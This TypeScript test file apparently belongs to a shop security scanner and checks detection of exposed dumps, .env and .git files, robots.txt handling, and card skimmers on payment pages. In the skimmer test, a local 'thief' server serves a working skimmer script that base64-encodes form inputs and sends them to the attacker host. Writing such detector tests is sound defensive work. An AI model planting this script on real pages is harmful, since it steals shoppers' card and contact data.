import { createServer, type RequestListener, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openBrowser } from '#engines/browser/open-browser.ts';
import { productFiles } from '#engines/files/product-files.ts';
import { openHttpClient } from '#engines/http/open-http-client.ts';
import { readEntries } from '#engines/ledger/verify-ledger.ts';
import { openTestHouse, type TestHouse } from '#engines/testing/open-test-house.ts';
import type { OrgId } from '#kernel/ids.ts';
import { registerShop } from '#registry/index.ts';
import { serveRooms } from '#web/testing/serve-rooms.ts';
import { authoriseScripts, runInspection, setJourney, setPaymentPage, startInspection, takeGlance } from './index.ts';
import { readAuthorised } from './inventory/read-authorised.ts';
import { routes } from './routes.tsx';
import { inspectTables } from './store.ts';

let house: TestHouse;
const servers: Server[] = [];

beforeAll(async () => {
  house = await openTestHouse((folder) => ({ http: openHttpClient(), browser: openBrowser({ cacheFolder: folder }) }));
});

afterAll(async () => {
  await house[Symbol.asyncDispose]();
  for (const server of servers) server.close();
});

async function serve(listener: RequestListener): Promise<string> {
  const server = createServer(listener);
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return `http://localhost:${(server.address() as AddressInfo).port}`;
}

async function openShop(url: string) {
  const org = house.newOrg();
  const scope = house.scope(org);
  const contact = { name: 'Shop', address: 'care@shop.example', phone: '555' };
  const { shop } = await registerShop(scope, {
    name: 'Shop',
    url,
    platform: 'generic',
    allowPrivate: true,
    timeZone: 'UTC',
    country: 'PL',
    contact,
    privacyContact: { name: 'Officer', address: 'officer@shop.example' },
  });
  const inspect = async () => {
    const { run } = await startInspection(scope, { shop, queue: false });
    await runInspection(scope, run, { perSecond: 1_000 });
    return findings(org);
  };
  return { org, scope, shop, inspect };
}

async function findings(org: OrgId): Promise<string[]> {
  const rows = await house.state.inOrg(org, (db) =>
    inspectTables(db)
      .selectFrom('inspect_findings')
      .select(['check_id', 'key', 'status'])
      .where('org_id', '=', org)
      .orderBy('check_id')
      .orderBy('key')
      .execute(),
  );
  return rows.map((row) => `${row.status} ${row.check_id} ${row.key}`);
}

async function kinds(org: OrgId): Promise<string[]> {
  const entries = await house.state.inOrg(org, (db) => readEntries(db, org, 0, 1_000));
  return entries.map((entry) => entry.kind).filter((kind) => kind.startsWith('inspect.'));
}

describe('an inspection', () => {
  it('finds a dump in the web root, and sees it gone; a shop that is down closes nothing', async () => {
    let dump = true;
    let down = false;
    const url = await serve((request, response) => {
      if (down) return response.destroy();
      if (request.url === '/') return response.end('<title>Shop</title>');
      if (request.url === '/dump.sql' && dump)
        return response.end("-- MySQL dump\nINSERT INTO customers VALUES (1,'zofia@customer.example');");
      return response.writeHead(404).end();
    });
    const { org, inspect } = await openShop(url);
    expect(await inspect()).toContain('open exposed-files /dump.sql');
    down = true;
    expect(await inspect()).toContain('open exposed-files /dump.sql');
    down = false;
    dump = false;
    expect(await inspect()).toContain('gone exposed-files /dump.sql');
    dump = true;
    expect(await inspect()).toContain('open exposed-files /dump.sql');
    const events = await kinds(org);
    expect(events.filter((kind) => kind === 'inspect.run-finished')).toHaveLength(4);
    expect(events.filter((kind) => kind === 'inspect.finding-gone')).toHaveLength(1);
    expect((await inspect()).filter((line) => line.includes('exposed'))).toEqual(['open exposed-files /dump.sql']);
  }, 90_000);

  it('finds nothing exposed on a site that answers every name, and still what is really exposed there', async () => {
    let keyed = false;
    const url = await serve((request, response) => {
      if (keyed && request.url === '/.git/HEAD') return response.end('ref: refs/heads/main\n');
      response.setHeader('content-type', request.url?.endsWith('.sql') ? 'application/sql' : 'text/html');
      return response.end(request.url?.endsWith('.sql') ? 'CREATE TABLE nothing;' : '<!doctype html><title>Index of /</title><p>APP_KEY=1');
    });
    const { inspect } = await openShop(url);
    const exposed = async () => (await inspect()).filter((line) => line.includes('exposed'));
    expect(await exposed()).toEqual([]);
    keyed = true;
    expect(await exposed()).toEqual(['open exposed-files /.git/HEAD']);
  });

  it('saves no secret with its evidence', async () => {
    const url = await serve((request, response) => {
      if (request.url === '/.env') return response.end('DB_PASSWORD=hunter2-very-secret\nMAIL=zofia@customer.example\n');
      return request.url === '/' ? response.end('shop') : response.writeHead(404).end();
    });
    const { org, inspect } = await openShop(url);
    expect(await inspect()).toContain('open exposed-files /.env');
    const row = await house.state.inOrg(org, (db) =>
      inspectTables(db).selectFrom('inspect_runs').select('artifact').executeTakeFirstOrThrow(),
    );
    const saved = Buffer.from(await house.artifacts.load(org, row.artifact ?? '')).toString();
    expect(saved).toContain('DB_PASSWORD');
    expect(saved).not.toMatch(/hunter2|zofia/);
  });

  it('stays away when robots.txt says so by name', async () => {
    const asked: string[] = [];
    const url = await serve((request, response) => {
      asked.push(request.url ?? '');
      return response.end(request.url === '/robots.txt' ? 'User-agent: Shopbell\nDisallow: /\n' : 'shop');
    });
    const { inspect } = await openShop(url);
    await inspect();
    expect(asked).toEqual(['/robots.txt']);
  });
});

describe('the payment page', () => {
  it('is inventoried; after authorisation a skimmer is found as new script, new host and leak', async () => {
    const stolen: string[] = [];
    const orders: string[] = [];
    const thief = await serve((request, response) => {
      stolen.push(request.url ?? '');
      response.setHeader('content-type', 'text/javascript');
      response.end(
        request.url === '/a.js'
          ? `document.addEventListener('change', (e) => { new Image().src = '${'THIEF'}/p?d=' + encodeURIComponent(btoa(e.target.value)); }, true)`.replace(
              'THIEF',
              `http://${request.headers.host}`,
            )
          : '',
      );
    });
    let skimmed = false;
    const url = await serve((request, response) => {
      if (request.method === 'POST') orders.push(request.url ?? '');
      response.setHeader('content-type', 'text/html');
      if (request.url === '/shop.js') return response.setHeader('content-type', 'text/javascript').end('window.shop = 1');
      if (request.url !== '/checkout') return request.url === '/' ? response.end('shop') : response.writeHead(404).end();
      return response.end(`<!doctype html><script>var visit = ${Date.now()}</script><script src="/shop.js"></script>
        ${skimmed ? `<script src="${thief}/a.js"></script>` : ''}
        <form method="post" action="/pay"><input name="email"><input autocomplete="cc-number"><input name="cvv"><button>Pay now</button></form>`);
    });
    const { scope, shop, inspect } = await openShop(url);
    await setPaymentPage(scope, { shop, path: '/checkout' });
    await expect(setJourney(scope, { shop, file: 'import "fs"' })).rejects.toMatchObject({ code: 'JOURNEY_INVALID' });
    const file = `import { test } from '@playwright/test'; test('there', async ({ page }) => { await page.goto('/checkout'); });`;
    expect(await setJourney(scope, { shop, file })).toEqual({ tests: ['there'] });
    expect((await inspect()).filter((line) => line.includes('payment'))).toEqual([]);
    expect(await authoriseScripts(scope, { shop, reason: 'our own shop code' })).toEqual({ scripts: 2, hosts: 0, headers: 0 });
    expect((await inspect()).filter((line) => line.includes('payment'))).toEqual([]);
    skimmed = true;
    const host = new URL(thief).host;
    expect((await inspect()).filter((line) => line.includes('payment'))).toEqual([
      `open payment-hosts ${host}`,
      `open payment-scripts ${thief}/a.js`,
      `open payment-skimmer ${host}`,
    ]);
    const app = serveRooms(productFiles, () => scope, { '/inspect': routes() });
    const html = await (await app.request(`/inspect/shops/${shop}`)).text();
    expect(html).toContain(`A card thief is on the payment page: it takes e-mail address, card number to ${host}`);
    expect(html).toContain('Authorise everything in this list');
    const front = await (await app.request('/inspect')).text();
    expect(front).toMatch(/<h1>\d+ things to mend/);
    expect(front).toContain(`/inspect/shops/${shop}`);
    const glance = await takeGlance(scope, (key) => key);
    expect(glance.badge?.count).toBeGreaterThanOrEqual(3);
    const authorised = await app.request(`/inspect/shops/${shop}/authorise`, {
      method: 'POST',
      body: new URLSearchParams({ reason: 'a test' }),
    });
    expect(authorised.status).toBe(303);
    expect((await house.state.inOrg(scope.org, (db) => readAuthorised(db, scope.org, shop, house.clock.now())))?.hosts).toEqual([host]);
    expect(stolen.some((path) => path.startsWith('/p?d='))).toBe(true);
    expect(orders).toEqual([]);
  }, 90_000);
});
